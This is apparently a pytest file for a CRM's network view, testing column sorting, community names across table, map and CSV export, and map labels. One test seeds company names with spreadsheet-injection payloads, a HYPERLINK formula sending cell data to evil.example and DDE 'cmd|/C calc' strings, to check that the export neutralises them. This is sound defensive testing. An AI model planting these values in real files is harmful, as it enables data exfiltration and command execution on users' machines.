"""The map's table says what it does: the rows follow the arrow and aria-sort of every sortable
column, and its community names are the ones the map, its legend and the exports show."""

from __future__ import annotations

import csv
import io
import zipfile
from html.parser import HTMLParser
from urllib.parse import parse_qs, urlsplit

import pytest

from crm.common.dates import local_today
from crm.network import cache, services
from crm.network.queries import NetworkFilter
from tests.factories import make_company


class _Table(HTMLParser):
    """The #network-table: its headers (text, aria-sort, link) and rows (id, cell texts)."""

    def __init__(self) -> None:
        super().__init__()
        self.headers: list[dict] = []
        self.rows: list[dict] = []
        self._in_table = False
        self._cell: dict | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and attrs.get("id") == "network-table":
            self._in_table = True
        if not self._in_table:
            return
        if tag == "th":
            self._cell = {"text": "", "aria-sort": attrs.get("aria-sort"), "href": None}
            self.headers.append(self._cell)
        elif tag == "tr" and self.headers:
            self.rows.append({"id": None, "cells": []})
        elif tag == "td":
            self._cell = {"text": ""}
            self.rows[-1]["cells"].append(self._cell)
        elif tag == "a" and self._cell is not None:
            if "href" in self._cell and self._cell["href"] is None:
                self._cell["href"] = attrs["href"]
            elif self.rows and self.rows[-1]["id"] is None and "/companies/" in attrs["href"]:
                self.rows[-1]["id"] = int(attrs["href"].rstrip("/").rsplit("/", 1)[1])

    def handle_endtag(self, tag):
        if tag in ("th", "td"):
            self._cell = None
        elif tag == "table":
            self._in_table = False

    def handle_data(self, data):
        if self._cell is not None:
            self._cell["text"] += data


def _table(html: str) -> _Table:
    parser = _Table()
    parser.feed(html)
    return parser


@pytest.fixture
def district(client, login, session, link_types, network_cache):
    """Six organisations whose figures differ: a hub, a bridge, a pair and a loner."""
    names = ["Kjeller Innovasjon", "IFE", "NILU", "Norsar", "FFI", "Ahus"]
    orgs = [make_company(session, name=name) for name in names]
    pairs = [(0, 1), (0, 2), (0, 3), (1, 2), (3, 4), (4, 5)]
    for a, b in pairs:
        services.create_link(
            session,
            company_id=orgs[a].id,
            other_id=orgs[b].id,
            other_name=None,
            link_type_id=link_types["project"].id,
        )
    session.commit()
    login("reader")
    return orgs


def _metrics(session):
    view = cache.peek_view(session, NetworkFilter(), today=local_today())
    assert view is not None and view.slow_ready
    return view


def test_every_sortable_column_sorts_the_rows_the_way_its_heading_says(client, session, district):
    headers = _table(client.get("/network/").get_data(as_text=True)).headers
    sortable = [header for header in headers if header["href"]]
    keys = [parse_qs(urlsplit(header["href"]).query)["sort"][0].lstrip("-") for header in sortable]
    assert set(keys) == {
        "name",
        "degree",
        "weighted_degree",
        "pagerank",
        "betweenness",
        "community",
    }
    view = _metrics(session)

    for key in keys:
        for sort, direction in ((key, "ascending"), (f"-{key}", "descending")):
            table = _table(client.get(f"/network/?sort={sort}").get_data(as_text=True))
            marked = [h for h in table.headers if h["aria-sort"]]
            assert [h["aria-sort"] for h in marked] == [direction], sort
            assert ("▼" if direction == "descending" else "▲") in marked[0]["text"]
            ids = [row["id"] for row in table.rows]
            assert sorted(ids) == sorted(org.id for org in district)
            if key == "name":
                values = [view.graph.nodes[node]["name"].lower() for node in ids]
            else:
                values = [view.metrics[node][key] for node in ids]
            expected = sorted(values, reverse=direction == "descending")
            assert values == expected, (sort, values)
            assert len(set(values)) > 1, key  # the data tells the directions apart


def test_community_names_agree_in_the_table_the_map_and_the_exports(client, session, district):
    html = client.get("/network/?sort=name").get_data(as_text=True)
    table = _table(html)
    column = [header["text"].strip() for header in table.headers].index("Fellesskap")
    in_table = {row["id"]: row["cells"][column].get("text").strip() for row in table.rows}
    data = client.get("/network/graph.json").get_json()
    names = data["attributes"]["labels"]["community"]
    on_map = {
        int(node["key"]): names[str(node["attributes"]["community"])] for node in data["nodes"]
    }
    archive = zipfile.ZipFile(io.BytesIO(client.get("/network/export.csv").data))
    nodes = list(csv.DictReader(io.StringIO(archive.read("nodes.csv").decode("utf-8-sig"))))
    exported = {int(row["id"]): row["community_name"] for row in nodes}

    assert in_table == on_map == exported
    # Named for people, never "Fellesskap 1": by a shared cluster or "Rundt A og B".
    assert all(not name.startswith("Fellesskap") for name in in_table.values())
    assert all(name.startswith("Rundt ") for name in in_table.values()), in_table
    # The hub's triangle, named by its two most central members (equal strength: by name).
    assert in_table[district[1].id] == "Rundt IFE og Kjeller Innovasjon"
    # Still numbered from 1 in the data, largest first.
    assert min(int(row["community"]) for row in nodes) == 1


def test_the_network_csv_export_holds_no_live_formula(
    client, login, session, link_types, network_cache
):
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+1",
    ]
    orgs = [make_company(session, name=name) for name in hostile]
    for other in orgs[1:]:
        services.create_link(
            session,
            company_id=orgs[0].id,
            other_id=other.id,
            other_name=None,
            link_type_id=link_types["project"].id,
            evidence="=1+1",
        )
    session.commit()
    login("reader")

    archive = zipfile.ZipFile(io.BytesIO(client.get("/network/export.csv").data))
    for name in ("nodes.csv", "edges.csv"):
        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or cell.startswith("-1+")]
    nodes = csv.DictReader(io.StringIO(archive.read("nodes.csv").decode("utf-8-sig")))
    assert {row["name"] for row in nodes} == {"'" + name for name in hostile}


def test_the_most_influential_keep_their_names_on_the_map(client, session, district, monkeypatch):
    from crm.network import exports

    monkeypatch.setattr(exports, "FORCED_LABELS", 2)
    nodes = client.get("/network/graph.json").get_json()["nodes"]
    view = _metrics(session)

    forced = {int(node["key"]) for node in nodes if node["attributes"].get("forceLabel")}
    top = sorted(view.metrics, key=lambda node: -view.metrics[node]["pagerank"])[:2]
    assert forced == set(top)
    assert district[0].id in forced  # the hub
